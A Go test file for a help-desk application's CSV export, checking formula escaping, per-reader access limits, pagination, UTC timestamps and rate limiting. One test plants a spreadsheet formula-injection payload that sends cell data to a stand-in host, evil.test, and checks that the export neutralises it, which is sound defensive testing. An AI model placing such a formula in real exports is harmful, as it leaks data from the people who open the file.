package bulk_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"bothways/internal/auth"
	"bothways/internal/bulk"
	"bothways/internal/desk/filter"
	"bothways/internal/desk/read"
	"bothways/internal/kit/errs"
)

func (w *world) sheet(by auth.Actor, query string, bom bool) [][]string {
	w.t.Helper()
	b, err := filter.Parse(query).Bind(ctx, filter.Reader{PersonID: by.PersonID, Teams: by.Teams, Now: w.clk.Now(), Names: w.names.For(by)})
	w.check(err)
	var out bytes.Buffer
	w.check(w.bulk.Sheet(ctx, by, read.Selection{Bound: b}, &out, bom, func() {}))
	if got := strings.HasPrefix(out.String(), "\uFEFF"); got != bom {
		w.t.Errorf("mark of UTF-8: %v", got)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF"))).ReadAll()
	w.check(err)
	return rows
}

// Row 12 of the attacks: no cell is a formula.
func TestAttack12_NoCellIsAFormula(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+49 30 1": "'+49 30 1", "-5": "'-5", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "  =1": "'  =1", "＝1": "'＝1",
		"": "", "plain": "plain", "a=b": "a=b", "BW-1": "BW-1", "2026-01-12T09:00:00Z": "2026-01-12T09:00:00Z", "'=x": "'=x",
	} {
		if got := bulk.Plain(in); got != want {
			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
		}
	}
	each(t, func(t *testing.T, w *world) {
		w.open(w.helen, `=HYPERLINK("http://evil.test?"&A1,"win, win")`)
		rows := w.sheet(w.agent, "", true)
		if rows[1][2] != `'=HYPERLINK("http://evil.test?"&A1,"win, win")` {
			t.Errorf("%q", rows[1][2])
		}
		for _, row := range rows {
			for i, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("column %s: %q", rows[0][i], c)
				}
			}
		}
	})
}

// Row 23 of the attacks: the file holds what its reader may open, in every order, and no more.
func TestAttack23_AFileHoldsWhatItsReaderMayOpen(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		for i := range 3 {
			w.open(w.helen, "Leeds canaryleeds")
			if i < 2 {
				w.open(w.olle, "Lund canarylund")
			}
		}
		for _, c := range []struct {
			by    auth.Actor
			query string
			want  int
		}{
			{w.agent, "", 5}, {w.agent, "sort:made", 5}, {w.agent, "site:lund", 2}, {w.priya, "", 3}, {w.priya, "sort:-due", 3}, {w.priya, "site:lund", 3}, {w.priya, "canarylund", 0},
			{w.helen, "", 3}, {w.helen, "canarylund", 0}, {w.helen, "state:closed", 0}, {auth.Actor{}, "", 0},
		} {
			if rows := w.sheet(c.by, c.query, false); len(rows)-1 != c.want {
				t.Errorf("%s %q: %d rows, want %d", c.by.Name, c.query, len(rows)-1, c.want)
			}
		}
	})
}

// A file goes on over any number of pages, and each ticket is in it once.
func TestAFileOfManyPages(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		if w.db.Engine() != "sqlite" {
			t.Skip("the pages are the same on both engines")
		}
		for range 205 {
			w.open(w.helen, "Printer")
		}
		for _, q := range []string{"", "sort:made", "sort:-changed", "sort:priority"} {
			seen := map[string]bool{}
			for _, row := range w.sheet(w.agent, q, false)[1:] {
				if seen[row[0]] {
					t.Fatalf("%s: %s twice", q, row[0])
				}
				seen[row[0]] = true
			}
			if len(seen) != 205 {
				t.Errorf("%s: %d tickets", q, len(seen))
			}
		}
	})
}

func TestAFileIsInUTCAndBreaksOffWithItsReader(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		w.open(w.helen, "A")
		rows := w.sheet(w.agent, "", false)
		col := map[string]string{}
		for i, name := range rows[0] {
			col[name] = rows[1][i]
		}
		for name, want := range map[string]string{"created_at": "2026-01-12T09:01:00Z", "site": "Leeds", "organisation": "Norvik Industries", "requester": "Helen Marsh", "turn": "provider", "closed_at": "", "team": "Service desk"} {
			if col[name] != want {
				t.Errorf("%s = %q, want %q", name, col[name], want)
			}
		}
		if at, err := time.Parse(time.RFC3339, col["due_at"]); err != nil || at.Location() != time.UTC {
			t.Errorf("due_at %q", col["due_at"])
		}
		if err := w.bulk.Sheet(ctx, w.agent, read.Selection{}, gone{}, false, func() {}); err == nil {
			t.Error("it wrote to nobody")
		}
		ended, cancel := context.WithCancel(ctx)
		cancel()
		if err := w.bulk.Sheet(ended, w.agent, read.Selection{}, &bytes.Buffer{}, false, func() {}); err == nil {
			t.Error("it read for nobody")
		}
	})
}

// gone is a reader who hung up.
type gone struct{}

func (gone) Write([]byte) (int, error) { return 0, errors.New("gone") }

// Row 70 of the attacks: heavy requests are bounded, for one person and for all.
func TestAttack70_HeavyRequestsAreBounded(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		leave, err := w.bulk.Enter(w.agent)
		w.check(err)
		_, err = w.bulk.Enter(w.agent)
		if until, ok := auth.ThrottledUntil(err); !errs.Is(err, errs.TooMany) || !ok || !until.After(w.clk.Now()) {
			t.Errorf("two at once: %v", err)
		}
		var leaves []func()
		for _, id := range []string{"a", "b", "c"} {
			l, err := w.bulk.Enter(auth.Actor{Kind: auth.Person, PersonID: id})
			w.check(err)
			leaves = append(leaves, l)
		}
		if _, err := w.bulk.Enter(w.priya); !errs.Is(err, errs.TooMany) {
			t.Errorf("a fifth of all: %v", err)
		}
		leave()
		leave() // leaving twice frees one place
		for range 29 {
			l, err := w.bulk.Enter(w.agent)
			w.check(err)
			l()
		}
		if _, err := w.bulk.Enter(w.agent); !errs.Is(err, errs.TooMany) {
			t.Errorf("31 within a minute: %v", err)
		}
		w.clk.Advance(time.Minute)
		l, err := w.bulk.Enter(w.agent)
		w.check(err)
		l()
		for _, l := range leaves {
			l()
		}
	})
}
